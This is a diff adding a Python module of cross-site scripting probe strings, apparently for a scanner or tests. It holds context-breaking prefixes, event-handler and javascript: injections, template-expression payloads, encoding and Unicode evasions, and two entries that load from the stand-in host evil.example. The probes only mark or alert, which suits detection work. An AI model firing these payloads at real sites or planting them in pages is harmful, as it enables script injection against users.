@@ -1,0 +1,70 @@
+"""Attempts at getting markup or script into a page: each leaves an attribute `zqx` or opens a dialog where it works."""
+
+# What stands before an attempt, to leave the place that text is put into.
+BREAKS = (
+    "", '"', "'", ">", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</option></select>",
+    "</td></tr></table>", "</style>", "</svg>", "</template>", '\\">', "`>",
+)  # fmt: skip
+
+ELEMENTS = (
+    "<script zqx>alert(1)</script>",
+    "<img zqx src=x onerror=alert(1)>",
+    "<IMG ZQX SRC=x OnErRoR=alert(1)>",
+    "<img/zqx/src=x/onerror=alert(1)//",
+    "<svg zqx onload=alert(1)>",
+    "<svg zqx><script>alert(1)</script></svg>",
+    "<svg zqx><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<details zqx open ontoggle=alert(1)>",
+    "<input zqx autofocus onfocus=alert(1)>",
+    "<iframe zqx srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a zqx href=javascript:alert(1)>x</a>",
+    "<a zqx href='java&#9;script:alert(1)'>x</a>",
+    "<base zqx href=//evil.example/>",
+    "<object zqx data=javascript:alert(1)></object>",
+    "<form zqx action=javascript:alert(1)><button>x</button></form>",
+    "<video zqx><source onerror=alert(1)></video>",
+    "<div zqx hx-get=/ hx-trigger=load>x</div>",
+    "<div zqx hx-on:click=alert(1)>x</div>",
+    "<style zqx>*{color:red}</style>",
+)
+
+SINGLE = (
+    '" zqx onmouseover="alert(1)',
+    "' zqx onmouseover='alert(1)",
+    '" zqx autofocus onfocus="alert(1)" x="',
+    " zqx onclick=alert(1) ",
+    "` zqx onclick=`alert(1)`",
+    "javascript:alert(1)",
+    "java\tscript:alert(1)",
+    " javascript:alert(1)//",
+    "data:text/html,<script>alert(1)</script>",
+    "//evil.example/x.js",
+    '";alert(1);//',
+    "';alert(1);//",
+    "\\';alert(1);//",
+    "`;alert(1);//",
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{% load static %}{{ request.user }}<b zqx>",
+    "</script><script zqx>alert(1)</script>",
+    "<!--<img zqx src=x onerror=alert(1)>-->",
+    "<![CDATA[<img zqx src=x onerror=alert(1)>]]>",
+    "&lt;img zqx src=x onerror=alert(1)&gt;",
+    "&#60;img zqx src=x onerror=alert(1)&#62;",
+    "&amp;lt;img zqx src=x onerror=alert(1)&amp;gt;",
+    "%3Cimg%20zqx%20src=x%20onerror=alert(1)%3E",
+    "\\u003cimg zqx src=x onerror=alert(1)\\u003e",
+    "\\x3cimg zqx src=x onerror=alert(1)\\x3e",
+    "＜img zqx src=x onerror=alert(1)＞",
+    "<<img zqx src=x onerror=alert(1)>>",
+    "<img zqx src=x onerror=alert(1)",
+    "<a zqx\nhref=javascript:alert(1)\n>x</a>",
+    "<math zqx><mtext><img zqx src=x onerror=alert(1)></mtext></math>",
+    "<noscript><p title='</noscript><img zqx src=x onerror=alert(1)>'>",
+    "<template zqx><script>alert(1)</script></template>",
+    "<xml zqx><x>&x;</x></xml>",
+    "\u202e<img zqx src=x onerror=alert(1)>",
+    "<img zqx src=x onerror\u2028=alert(1)>",
+)
+
+PAYLOADS = tuple(dict.fromkeys([*(before + each for each in ELEMENTS for before in BREAKS), *SINGLE]))
